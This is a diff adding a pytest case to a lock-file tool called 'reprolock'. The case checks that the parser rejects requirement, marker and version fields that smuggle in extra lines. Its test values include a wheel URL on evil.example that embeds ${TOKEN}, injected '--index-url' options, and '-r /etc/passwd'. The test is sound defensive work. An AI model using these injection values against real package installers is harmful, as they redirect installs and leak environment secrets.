@@ -5,10 +5,11 @@ from __future__ import annotations
 from datetime import UTC, datetime
 
 import pytest
+import tomlkit
 
 from reprolock.errors import LockError
 from reprolock.files.lock_file import lock_bytes, parse_lock
-from reprolock.model.lock import DatasetPin, JarPin, JarsPin, Lock
+from reprolock.model.lock import DatasetPin, EnvironmentPin, JarPin, JarsPin, Lock, PackagePin
 
 DATASET = DatasetPin.sealed(
     name="train",
@@ -75,6 +76,37 @@ coordinate = "org.antlr:antlr4-runtime:4.13.1"
 sha256 = "{"ef" * 32}"
 bytes = 34
 """
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "said"),
+    [
+        (
+            "requirements",
+            ["six @ https://evil.example/${TOKEN}/six.whl"],
+            "requirements.0: it would be more than one line",
+        ),
+        ("requirements", ["six\n--index-url https://evil.example"], "requirements.0: it would be more than one line"),
+        ("marker", "python_version > '3'\n-r /etc/passwd", "package.0.marker: it would be more than one line"),
+        ("marker", "python_version > '3' \\", "package.0.marker: it would be more than one line"),
+        ("version", "1.0\n--index-url https://evil.example", "package.0.version: "),
+        ("version", "1.0 --index-url", "package.0.version: "),
+    ],
+)
+def test_a_pin_that_is_more_than_a_line_of_requirements(field: str, value: object, said: str) -> None:
+    """uv is handed these lines by `run --dry-run` and `replay --dry-run` too: what else stands in one would be an option, or
+    would send a variable of the environment to any server."""
+    good = {"name": "six", "version": "1.0", "hashes": ["ab" * 32], "marker": "python_version > '3'"}
+    pin = EnvironmentPin.sealed(
+        requirements=("six",), python="3.11", package=(PackagePin(**{**good, "hashes": ("ab" * 32,)}),)
+    )
+    document = tomlkit.parse(lock_bytes(Lock(environment=pin)).decode())
+    assert parse_lock(tomlkit.dumps(document).encode()).environment == pin
+    table = document["environment"] if field == "requirements" else document["package"][0]
+    table[field] = value
+    with pytest.raises(LockError) as caught:
+        parse_lock(tomlkit.dumps(document).encode())
+    assert caught.value.message.startswith(f"repro.lock was edited: environment.{said}")
 
 
 def test_the_bytes() -> None:
